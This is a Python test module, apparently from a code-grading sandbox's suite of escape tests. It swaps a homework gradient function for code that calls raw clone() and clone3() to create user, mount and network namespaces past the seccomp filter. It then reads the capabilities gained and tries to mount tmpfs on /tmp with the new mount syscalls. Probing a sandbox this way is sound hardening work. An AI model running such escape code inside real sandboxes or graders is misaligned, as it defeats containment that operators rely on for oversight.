"""Attack `userns_clone`: the hw2_affine reference with ComputeGradients replaced by the attack.

New namespaces without unshare(): raw clone() and clone3() with
CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET (flags the seccomp filter does not
look at). The child reports the capabilities it holds there and tries the new
mount API (fsopen/fsmount/move_mount), which the filter does not list either.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000


class CloneArgs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal",
                                                      "stack", "stack_size", "tls", "set_tid", "set_tid_size",
                                                      "cgroup")]


def inside(how):
    """In the child: what the new namespaces give."""
    try:
        name_me()
        capabilities = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
        fs = libc.syscall(430, b"tmpfs", 0)  # fsopen
        mounted = "no"
        if fs >= 0 and libc.syscall(431, fs, 6, None, None, 0) == 0:  # fsconfig(FSCONFIG_CMD_CREATE)
            mount = libc.syscall(432, fs, 0, 0)  # fsmount
            if mount >= 0 and libc.syscall(429, mount, b"", -100, b"/tmp", 4) == 0:  # move_mount, EMPTY_PATH
                mounted = "MOUNTED tmpfs on /tmp"
        say(how, "NEWUSERNS capabilities", capabilities, "fsopen", fs, mounted)
    finally:
        os._exit(0)


def ComputeGradients(L, x, z):
    if AS_ROOT or not once("clone"):
        return None
    pid = libc.syscall(56, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | 17, 0, 0, 0, 0)  # clone, SIGCHLD
    if pid == 0:
        inside("clone")
    say("clone(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWNET) ->", pid if pid > 0 else errno_text())
    if pid > 0:
        libc.waitpid(pid, None, 0)
    args = CloneArgs(flags=CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET, exit_signal=17)
    pid = libc.syscall(435, ctypes.byref(args), ctypes.sizeof(args))
    if pid == 0:
        inside("clone3")
    say("clone3(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWNET) ->", pid if pid > 0 else errno_text())
    if pid > 0:
        libc.waitpid(pid, None, 0)
    return None
